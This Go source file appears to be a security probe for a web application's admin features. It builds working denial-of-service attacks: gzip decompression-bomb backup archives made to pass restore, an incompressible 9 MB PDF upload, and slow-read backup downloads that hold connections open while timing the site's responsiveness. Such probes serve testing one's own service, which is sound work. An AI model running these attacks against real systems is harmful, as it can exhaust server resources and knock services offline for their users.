package main

// The third probe's backup attacks (issue 25 §4 and §7): restore files that hold one huge
// row or gigabytes of white space, and admins' downloads that stop reading.

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	crand "crypto/rand"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"
)

// restoreFiles writes the hostile backups into dir, each carrying header (the header.json
// of a real backup of the site, so that restore reads on past it): one 256 MB row in 0.3
// MB, and a table of 2 GiB of spaces in 2.1 MB. They are real gzip'd tars, made of gzip
// members one after another so that making them costs no gigabytes.
func restoreFiles(dir, headerFile string) error {
	header, err := os.ReadFile(headerFile)
	if err != nil {
		return err
	}
	for name, f := range map[string]struct {
		prefix, suffix string
		fill           byte
		mib            int
	}{
		"row-256mb.tar.gz":   {`{"id":1,"display_name":"`, `"}` + "\n", 'a', 256},
		"spaces-2gib.tar.gz": {"", "", ' ', 2048},
	} {
		b := hugeTable(header, "members", f.prefix, f.fill, f.mib, f.suffix)
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			return err
		}
		fmt.Printf("%s: %.2f MB, a members table of %d MiB\n", name, float64(len(b))/1e6, f.mib)
	}
	return nil
}

func gzipOf(b []byte) []byte {
	var out bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
	zw.Write(b) //nolint:errcheck // a buffer
	zw.Close()
	return out.Bytes()
}

func hugeTable(header []byte, table, prefix string, fill byte, mib int, suffix string) []byte {
	size := int64(len(prefix)) + int64(mib)<<20 + int64(len(suffix))
	var head bytes.Buffer
	tw := tar.NewWriter(&head)
	tw.WriteHeader(&tar.Header{Name: "header.json", Mode: 0o600, Size: int64(len(header))})  //nolint:errcheck // a buffer
	tw.Write(header)                                                                         //nolint:errcheck // a buffer
	tw.WriteHeader(&tar.Header{Name: "tables/" + table + ".jsonl", Mode: 0o600, Size: size}) //nolint:errcheck // a buffer
	head.WriteString(prefix)
	var out bytes.Buffer
	out.Write(gzipOf(head.Bytes()))
	chunk := gzipOf(bytes.Repeat([]byte{fill}, 1<<20))
	for range mib {
		out.Write(chunk)
	}
	var tail bytes.Buffer
	tail.WriteString(suffix)
	tail.Write(make([]byte, (512-size%512)%512))
	tw = tar.NewWriter(&tail)
	man := []byte(fmt.Sprintf(`{"tables":[{"name":%q,"rows":1,"bytes":%d,"sha256":"00"}]}`, table, size))
	tw.WriteHeader(&tar.Header{Name: "manifest.json", Mode: 0o600, Size: int64(len(man))}) //nolint:errcheck // a buffer
	tw.Write(man)                                                                          //nolint:errcheck // a buffer
	tw.Close()
	out.Write(gzipOf(tail.Bytes()))
	return out.Bytes()
}

// bigResume signs in and gives the first card a résumé of 9 MB that gzip cannot shrink:
// a one-page PDF that also carries 9 MB of random bytes in a stream no page draws.
func bigResume(base, login, password string) error {
	b, card, err := signIn(base, login, password)
	if err != nil {
		return err
	}
	pdf := randomPDF(9 << 20)
	var form bytes.Buffer
	w := multipart.NewWriter(&form)
	fw, _ := w.CreateFormFile("resume", "big.pdf")
	fw.Write(pdf) //nolint:errcheck // a buffer
	w.Close()
	req, _ := http.NewRequest("POST", base+"/admin/cards/"+card+"/resume", &form)
	req.Header.Set("Content-Type", w.FormDataContentType())
	req.Header.Set("X-CSRF-Token", b.csrf)
	resp, err := b.http.Do(req)
	if err != nil {
		return err
	}
	resp.Body.Close()
	fmt.Printf("resume: a %.1f MB PDF of random bytes: %d\n", float64(len(pdf))/1e6, resp.StatusCode)
	if resp.StatusCode >= 400 {
		return fmt.Errorf("the résumé was refused (%d)", resp.StatusCode)
	}
	return nil
}

// randomPDF is a valid one-page PDF with n random bytes in an object of its own.
func randomPDF(n int) []byte {
	noise := make([]byte, n)
	crand.Read(noise) //nolint:errcheck // crypto/rand does not fail
	text := "BT /F1 24 Tf 72 700 Td (Attack resume) Tj ET"
	objects := []string{
		"<</Type/Catalog/Pages 2 0 R>>",
		"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
		fmt.Sprintf("<</Length %d>>\nstream\n%s\nendstream", len(text), text),
		"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
		fmt.Sprintf("<</Length %d>>\nstream\n%s\nendstream", n, noise),
	}
	var out bytes.Buffer
	out.WriteString("%PDF-1.4\n")
	offsets := make([]int, len(objects))
	for i, o := range objects {
		offsets[i] = out.Len()
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, off := range offsets {
		fmt.Fprintf(&out, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&out, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, xref)
	return out.Bytes()
}

// signIn signs a browser in and returns it with the id of the first card it may edit.
func signIn(base, login, password string) (*browser, string, error) {
	b := newBrowser()
	if _, err := b.get(base + "/login"); err != nil {
		return nil, "", err
	}
	resp, err := b.http.PostForm(base+"/login", url.Values{"_csrf": {b.csrf}, "login": {login}, "password": {password}})
	if err != nil {
		return nil, "", err
	}
	resp.Body.Close()
	page, err := b.get(base + "/admin")
	if err != nil {
		return nil, "", err
	}
	m := cardLink.FindStringSubmatch(page)
	if m == nil {
		return nil, "", fmt.Errorf("signed in as %s, but /admin lists no card", login)
	}
	return b, m[1], nil
}

// stalledDownloads asks for n backups at once over connections that then read nothing,
// and for hold reads the card page and /readyz, printing how each was answered and their
// slowest time.
func stalledDownloads(base, login, password string, n int, hold time.Duration) error {
	b, _, err := signIn(base, login, password)
	if err != nil {
		return err
	}
	u, _ := url.Parse(base)
	var cookies []string
	for _, c := range b.http.Jar.Cookies(u) {
		cookies = append(cookies, c.Name+"="+c.Value)
	}
	var mu sync.Mutex
	tally := map[string]int{}
	var conns []net.Conn
	var wg sync.WaitGroup
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			key := "error"
			conn, err := net.Dial("tcp", u.Host)
			if err == nil {
				fmt.Fprintf(conn, "GET /admin/backup HTTP/1.1\r\nHost: %s\r\nCookie: %s\r\n\r\n", u.Host, strings.Join(cookies, "; "))
				if resp, err := http.ReadResponse(bufio.NewReaderSize(conn, 512), nil); err == nil {
					key = fmt.Sprint(resp.StatusCode) // and read no further
				}
			}
			mu.Lock()
			tally[key]++
			if conn != nil {
				conns = append(conns, conn)
			}
			mu.Unlock()
		}()
	}
	wg.Wait()
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	fmt.Printf("download: %d backups asked at once, none read: %s\n", n, tallyString(tally))
	visitor := &http.Client{Timeout: 10 * time.Second}
	answers := map[string]int{}
	slowest := map[string]time.Duration{}
	for start := time.Now(); time.Since(start) < hold; time.Sleep(50 * time.Millisecond) {
		for _, path := range []string{"/", "/readyz"} {
			t := time.Now()
			key := path + " error"
			if resp, err := visitor.Get(base + path); err == nil {
				io.Copy(io.Discard, resp.Body) //nolint:errcheck // only the status matters
				resp.Body.Close()
				key = fmt.Sprintf("%s %d", path, resp.StatusCode)
			}
			answers[key]++
			slowest[path] = max(slowest[path], time.Since(t))
		}
	}
	fmt.Printf("download: for %s while they stall: %s; slowest / %s, /readyz %s\n", hold, tallyString(answers),
		slowest["/"].Round(time.Millisecond), slowest["/readyz"].Round(time.Millisecond))
	return nil
}

func tallyString(t map[string]int) string {
	var parts []string
	for k, v := range t {
		parts = append(parts, fmt.Sprintf("%s×%d", k, v))
	}
	sort.Strings(parts)
	return strings.Join(parts, " ")
}
